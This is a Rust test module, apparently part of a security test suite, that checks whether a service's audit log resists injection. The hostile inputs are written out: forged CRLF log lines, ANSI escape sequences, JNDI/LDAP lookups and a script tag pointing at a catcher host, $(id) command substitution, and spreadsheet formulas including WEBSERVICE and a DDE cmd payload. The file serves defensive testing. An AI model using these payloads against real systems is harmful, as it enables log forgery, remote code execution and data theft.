//! `audit-log-injection`: what a client writes never becomes a line of the log.

use super::log_with;
use crate::attacks::prelude::*;

pub(super) const ATTACKS: &[Attack] = &[
    attack!(
        AUDIT_LOG_INJECTION / "crlf" = crlf,
        "An attacker hides line breaks and a forged log line in paths, queries, fields, and a token's subject.",
        "An operator reads the log line by line.",
    ),
    attack!(
        AUDIT_LOG_INJECTION / "ansi" = ansi,
        "An attacker sends terminal commands, overrides and NUL to whoever reads the log.",
        "An operator reads the log on a terminal.",
    ),
    attack!(
        AUDIT_LOG_INJECTION / "lookup" = lookup,
        "An attacker sends what other loggers look up or fill in, markup for a dashboard, and formulas for who opens the log as a table.",
        "He waits at the address that the lookups name.",
    ),
];

/// Requests that carry this text where a log could repeat it, all of them refused or harmless.
fn carriers(scene: &Scene, text: &str) -> Result<Vec<Request>, AttackError> {
    let (reception, admin) = (scene.actor(RecepA)?, scene.actor(AdminA1)?);
    let members = reception.members_path();
    let encoded: String = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let visible: String = text.chars().filter(|c| !c.is_control()).collect();
    let me = reception.get("/v1/me");
    let named = reception.recipe().claim("sub", visible.clone()).sign()?;
    Ok(vec![
        reception.get(&format!("{members}/{encoded}")),
        scene.anyone().get(&format!("/v1/{encoded}")),
        reception.get(&format!("{members}?family_name={encoded}")),
        scene.anyone().get(&format!("/v1/me?{encoded}")),
        me.clone().header("user-agent", &visible),
        me.clone().header("referer", &visible),
        me.clone().header("x-request-id", &visible),
        me.clone().header("x-forwarded-for", &visible),
        me.clone().bearer(named),
        me.bearer(reception.recipe().claim("sub", text).sign()?),
        admin.post(&members).json(&json!({ "display_name": text, text: text })),
    ])
}

async fn crlf(scene: &Scene) -> Outcome {
    let me = scene.actor(RecepA)?.get("/v1/me");
    let mut trial = Trial::begin(scene, Control::new(me, 200)).await?;
    let mark = format!("forged-{}", Uuid::new_v4().simple());
    let lines = send_all(
        scene,
        &mut trial,
        &[
            format!(
                "\r\n{{\"message\":\"{mark}\",\"event\":\"authn_login_success\",\"user\":\"admin\"}}\r\n"
            ),
            format!("\n{{\"message\":\"{mark}\"}}\n"),
            format!("\",\"message\":\"{mark}\",\"x\":\""),
            format!("\u{85}\u{2028}{mark}"),
        ],
    )
    .await?;
    for line in &lines {
        let Ok(parsed) = serde_json::from_str::<Value>(line) else {
            if !line.contains(&mark) && !line.starts_with('{') {
                continue;
            }
            trial.found("a line that is no JSON", Finding::Breach(line.chars().take(200).collect()));
            continue;
        };
        let forged = parsed.get("message").and_then(Value::as_str) == Some(mark.as_str());
        trial.found("a line of the log", Finding::must(!forged, "the attacker wrote it"));
    }
    trial.conclude().await
}

async fn ansi(scene: &Scene) -> Outcome {
    let me = scene.actor(RecepA)?.get("/v1/me");
    let mut trial = Trial::begin(scene, Control::new(me, 200)).await?;
    let mark = format!("mark{}", Uuid::new_v4().simple());
    let lines = send_all(
        scene,
        &mut trial,
        &[
            format!("{mark}\u{1b}[2J\u{1b}[31m"),
            format!("{mark}\u{202e}drowssap"),
            format!("{mark}\u{0}\u{7}\u{8}"),
        ],
    )
    .await?;
    for line in lines.iter().filter(|line| line.contains(&mark)) {
        let raw = line.chars().any(|c| c.is_control() || matches!(c, '\u{202a}'..='\u{202e}'));
        trial.found("what a terminal would obey", Finding::must(!raw, line.escape_debug().to_string()));
        let parsed = serde_json::from_str::<Value>(line).is_ok();
        trial.found("a line of the log", Finding::must(parsed, line.escape_debug().to_string()));
    }
    let raw = lines.iter().any(|line| line.contains('\u{1b}'));
    trial.found("escape sequences anywhere", Finding::must(!raw, "there are some"));
    trial.conclude().await
}

async fn lookup(scene: &Scene) -> Outcome {
    let me = scene.actor(RecepA)?.get("/v1/me");
    let mut trial = Trial::begin(scene, Control::new(me, 200)).await?;
    let mark = format!("mark{}", Uuid::new_v4().simple());
    let (catcher, bait) = (scene.catcher(), scene.catcher().token());
    let url = catcher.url(&bait);
    let texts = [
        format!("{mark}${{jndi:ldap://{}/x}}", bait.name()),
        format!("{mark}${{jndi:{url}}}"),
        format!("{mark}${{env:PATH}}$PATH`id`$(id)"),
        format!("{mark}%n%s%x{{}}{{0}}{{path}}"),
        format!("{mark}<script src=\"{url}\">alert(1)</script>"),
        format!("=WEBSERVICE(\"{url}?{mark}\")"),
        format!("@SUM(1+1)*cmd|' /C calc'!{mark}"),
    ];
    let lines = send_all(scene, &mut trial, &texts).await?;
    let path = std::env::var("PATH").unwrap_or_default();
    for line in lines.iter().filter(|line| line.contains(&mark)) {
        let parsed = serde_json::from_str::<Value>(line).is_ok();
        trial.found("a line of the log", Finding::must(parsed, line.escape_debug().to_string()));
        let filled = !path.is_empty() && line.contains(&path);
        trial.found("a line of the log", Finding::must(!filled, "what it asked for was filled in"));
    }
    let events = scene.actor(AuditA)?.get("/v1/audit-events?limit=100").send().await?;
    let typed = events.header("content-type") == Some("application/json");
    trial.found("the auditor's list", Finding::must(typed && !events.mentions(&mark), "it is no plain data"));
    trial.found("the address", Finding::must(catcher.arrivals(&bait).is_empty(), "somebody came"));
    trial.conclude().await
}

/// Sends every text by every carrier; the log afterwards, in which each request has exactly one access line.
async fn send_all(
    scene: &Scene,
    trial: &mut Trial<'_>,
    texts: &[String],
) -> Result<Vec<String>, AttackError> {
    let mut ids = Vec::new();
    for text in texts {
        for request in carriers(scene, text)? {
            let answer = match request.send().await {
                Ok(answer) => answer,
                // Not even the client's own library takes it.
                Err(ClientError::Inexpressible(_)) => continue,
                Err(error) => return Err(error.into()),
            };
            ids.extend(answer.request_id());
        }
    }
    let lines = log_with(&scene.observer().log, &ids).await;
    for id in ids {
        let id = id.to_string();
        let access = lines.iter().filter(|l| l.contains(&id) && l.contains(r#""message":"Request""#)).count();
        trial.found("its access line", Finding::must(access == 1, format!("there are {access}")));
    }
    Ok(lines)
}
